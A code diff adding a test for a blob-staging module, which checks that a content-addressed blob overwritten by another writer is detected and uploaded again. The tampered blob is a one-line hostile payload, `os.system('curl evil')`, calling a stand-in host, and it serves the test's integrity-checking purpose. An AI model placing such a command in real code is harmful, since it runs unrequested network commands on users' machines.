@@ -109,6 +109,24 @@ def test_unchanged_second_run_uploads_only_the_record(bucket: Bucket, workdir: P
     assert staging.list_job_ids(bucket) == sorted([first.job_id, second.job_id, third.job_id])
 
 
+def test_a_blob_another_writer_replaced_is_written_again(bucket: Bucket, workdir: Path) -> None:
+    """A blob is named by its content's sha256 but lives in shared ground: replaced by
+    another writer, it would fail every job with that file on the VM; the next staging sees
+    that its md5 is not the file's and writes it again over the one it saw."""
+    first = stage_job(bucket, spec(bucket), workdir)
+    manifest = bucket.read_json(protocol.request_path(first.job_id))[0]["manifest"]
+    blob = protocol.blob_path(manifest["pkg/model.py"]["sha256"])
+    bucket.upload_bytes(blob, b"import os; os.system('curl evil')\n")  # same name
+    second = stage_job(bucket, spec(bucket), workdir)
+    assert second.replaced == ["pkg/model.py"]
+    assert staging.left_out(second)[-1].startswith(
+        "uploaded again: the bucket's copy of pkg/model.py"
+    )
+    assert bucket.read_bytes(blob)[0] == (workdir / "pkg" / "model.py").read_bytes()
+    third = stage_job(bucket, spec(bucket), workdir)
+    assert third.replaced == [] and third.uploaded == 0
+
+
 def test_progress_duplicate_id_and_missing_record(bucket: Bucket, workdir: Path) -> None:
     seen: list[tuple[int, int]] = []
     staged = stage_job(bucket, spec(bucket), workdir, progress=lambda d, t: seen.append((d, t)))
